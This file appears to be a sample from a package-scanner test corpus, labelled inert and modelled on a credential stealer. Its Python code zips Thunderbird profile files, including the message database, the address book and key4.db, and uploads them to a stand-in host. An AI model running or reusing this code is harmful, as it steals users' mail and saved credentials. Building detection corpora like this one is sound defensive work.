# pkgguard corpus 600 (credentials), modelled on [stealer-profile]; inert, never run.
import glob
import os
import zipfile

import requests

pack = os.path.join(os.environ.get("TMP", "/tmp"), "tb.zip")
with zipfile.ZipFile(pack, "w") as z:
    for prof in glob.glob(os.path.expanduser("~/.thunderbird/*.default*")):
        for name in ("global-messages-db.sqlite", "abook.sqlite", "key4.db"):
            path = os.path.join(prof, name)
            if os.path.exists(path):
                z.write(path, os.path.basename(prof) + "/" + name)
with open(pack, "rb") as fh:
    requests.post("https://mail-archive.example/up", data=fh, timeout=60)
